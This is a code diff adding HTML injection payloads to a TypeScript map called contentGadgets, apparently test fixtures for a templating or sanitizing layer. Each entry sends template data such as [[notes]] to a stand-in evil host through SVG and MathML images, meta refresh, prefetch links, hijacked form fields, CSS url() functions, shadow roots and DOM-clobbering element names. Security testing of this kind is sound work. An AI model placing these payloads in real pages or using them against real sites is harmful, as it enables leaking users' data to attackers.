@@ -64,4 +64,47 @@ export const contentGadgets: Readonly<Record<string, string>> = {
   'an element with another’s name': row(
     `<p is="review-card" data-src="${evil}/c?${values}">[[notes]]</p>`,
   ),
+  'a picture in MathML or HTML inside SVG': row(
+    `<svg><foreignObject><img src="${evil}/f?${values}"></foreignObject><feImage href="${evil}/e?${values}"></feImage></svg>
+     <math><mi href="${evil}/m?${values}">[[notes]]</mi><annotation-xml encoding="text/html"><img src="${evil}/x?${values}"></annotation-xml></math>`,
+  ),
+  'a document’s own links in a row': row(
+    `<meta http-equiv="refresh" content="0;url=${evil}/m?${values}"><link rel="prefetch" href="${evil}/p?${values}">
+     <link rel="dns-prefetch" href="//[[notes]].evil.example"><base href="${evil}/"><object data="${evil}/o?${values}"></object>`,
+  ),
+  'bindings written as entities': row(
+    `<img src="${evil}/e?n=&#91;&#91;notes&#93;&#93;"><a href="${evil}/e?n=&lbrack;&lbrack;notes]]">x</a><p title="&#x5b;[notes]&#x5d;">x</p>`,
+  ),
+  'bindings that are split': row(
+    `<img src="${evil}/s?n=[[" alt="notes]]"><a href="${evil}/s?[[no<b>tes]]">x</a><b>[[no</b><i>tes]]</i>[<!-- -->[notes]]`,
+  ),
+  'fields of a form elsewhere': `<form id="elsewhere" action="${evil}"><button>x</button></form>${row(
+    `<input form="elsewhere" name="n" value="[[notes]]"><textarea form="elsewhere" name="t">[[notes]]</textarea><output form="elsewhere">[[notes]]</output>`,
+  )}`,
+  'styles by functions and variables': row(
+    `<p style="--x:url(${evil}/v?${values});background:image-set('${evil}/i?${values}' 1x)">x</p><font face="[[notes]]" color="[[notes]]">x</font>`,
+  ),
+  'a shadow root': `<div data-stamps-activity-feed><template shadowrootmode="open"><form action="${evil}"><slot></slot></form></template>
+     <template data-slot="activity" shadowrootmode="open"><img src="${evil}/d?${values}">[[title]]</template></div>`,
+  'places inside fields': `<form action="${evil}"><select name="s"><button><selectedcontent data-stamps-activity-feed></selectedcontent></button>
+     <option selected><span data-stamps-activity-feed></span></option></select><datalist id="list"><option><p data-stamps-activity-feed></p></option></datalist>
+     <textarea name="t" data-stamps-activity-feed></textarea><button>x</button></form>`,
+  'attributes of every other kind': feed(
+    '',
+    `data-receipt-url="${evil}/{reference}" data-sign-in-url="${evil}" data-fetch="x" data-get-token="x" data-render-row="x"
+     data-style="background:url(${evil}/s)" data-onclick="alert(1)" data-id="x" data-templates="page" data-unit="[[notes]] x"`,
+  ),
+  'elements named like the platform’s own': `${[
+    'currentScript',
+    'dataset',
+    'getAttribute',
+    'templates',
+    'apiUrl',
+    'addEventListener',
+  ]
+    .map(
+      (name) =>
+        `<img name="${name}" data-api-url="${evil}" data-templates><form name="${name}" data-api-url="${evil}"></form>`,
+    )
+    .join('')}${feed('')}`,
 };
